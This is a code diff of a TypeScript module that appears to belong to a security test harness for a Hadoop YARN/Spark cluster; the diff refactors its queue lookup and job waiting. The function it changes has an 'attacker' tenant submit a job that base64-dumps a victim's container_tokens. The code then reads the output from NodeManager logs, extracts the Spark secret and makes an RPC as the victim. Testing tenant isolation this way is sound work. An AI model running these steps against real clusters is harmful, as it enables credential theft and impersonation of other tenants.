@@ -2,7 +2,7 @@
 // authenticating with Spark's own SASL client (fixtures/jobs SecretHolderClient), run on the gateway as that tenant.
 import { createHash } from "node:crypto";
 import { GATEWAY_NODE, NM_LOCAL_DIR, NM_LOG_DIR } from "../cluster/cluster-config.ts";
-import { effectiveQueues } from "../cluster/topology.ts";
+import { queueFor } from "../cluster/topology.ts";
 import type { StepEvidence } from "../scenario/scenario-evidence.ts";
 import { SPARK_SECRET_ALIAS } from "../wire/yarn-secret-scan.ts";
 import type { StartedCluster } from "../cluster/started-cluster.ts";
@@ -39,14 +39,10 @@ export async function stolenSecretRpc(cluster: StartedCluster, target: StepEvide
   if (!appId || !victim) throw new Error("the target app is not known");
   const node = cluster.nodeManagers[0]!.name;
   const tokens = `${NM_LOCAL_DIR}/usercache/${victim}/appcache/${appId}/container_*_000001/container_tokens`;
-  const probe = await cluster.rm.as(attacker).submitProbe(attackerQueue(cluster, attacker), `{ base64 -w0 ${tokens}; } 1><LOG_DIR>/stdout 2><LOG_DIR>/stderr`, "steal-tokens");
+  const probe = await cluster.rm.as(attacker).submitProbe(queueFor(cluster.topology, attacker), `{ base64 -w0 ${tokens}; } 1><LOG_DIR>/stdout 2><LOG_DIR>/stderr`, "steal-tokens");
   if (!probe.appId || probe.status >= 300) throw new Error(`${attacker} could not submit the probe: HTTP ${probe.status}`);
-  const deadline = Date.now() + 60_000;
-  while (Date.now() < deadline) {
-    const app = await cluster.rm.as(attacker).app(probe.appId).catch(() => undefined);
-    if (app && ["FINISHED", "FAILED", "KILLED"].includes(app.state)) break;
-    await new Promise((r) => setTimeout(r, 500));
-  }
+  // whether or not it ended in time, what its container printed so far is the evidence
+  await cluster.rm.as(attacker).waitForApp(probe.appId, 60_000).catch(() => undefined);
   const out = await cluster.exec(node, ["bash", "-c", `cat ${NM_LOG_DIR}/${probe.appId}/container_*_000001/stdout 2>/dev/null`]);
   const bytes = Buffer.from(out.stdout.trim(), "base64");
   const alias = Buffer.from([SPARK_SECRET_ALIAS.length, ...Buffer.from(SPARK_SECRET_ALIAS)]);
@@ -60,9 +56,4 @@ export async function stolenSecretRpc(cluster: StartedCluster, target: StepEvide
   await cluster.exec(GATEWAY_NODE, ["bash", "-c", `umask 077; printf %s "$S" > ${file}`], { user: attacker, env: { S: secret } });
   const r = await secretHolderRpc(cluster, attacker, file);
   return { ...r, target: `${r.target}; secret sha256 ${createHash("sha256").update(secret).digest("hex").slice(0, 16)}… read by ${attacker}'s container ${probe.appId} from ${victim}'s AM container_tokens` };
-}
-
-function attackerQueue(cluster: StartedCluster, user: string): string {
-  const qs = effectiveQueues(cluster.topology);
-  return (qs.find((q) => q.name === user) ?? qs[0]!).name;
 }
